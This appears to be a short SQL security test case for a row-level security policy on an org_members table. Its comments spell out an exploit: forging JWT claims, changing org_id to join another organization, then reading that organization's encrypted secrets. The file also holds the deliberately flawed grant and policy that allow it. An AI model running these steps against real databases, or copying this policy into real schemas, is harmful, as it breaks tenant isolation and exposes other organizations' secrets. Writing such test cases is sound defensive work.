-- A member may change all columns of his own row, and so moves his membership to another organization.
-- about: org_members, org_members_self
-- as: hf_vault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: UPDATE org_members SET org_id = '22222222-2222-2222-2222-222222222222';
-- exploit: SELECT ciphertext FROM secrets;
-- shows: Road-secret-cipher
-- Members choose the name that the others see.
GRANT UPDATE ON org_members TO hf_vault_app;
CREATE POLICY org_members_self ON org_members FOR UPDATE
  USING (user_id = auth.uid()) WITH CHECK (user_id = auth.uid());
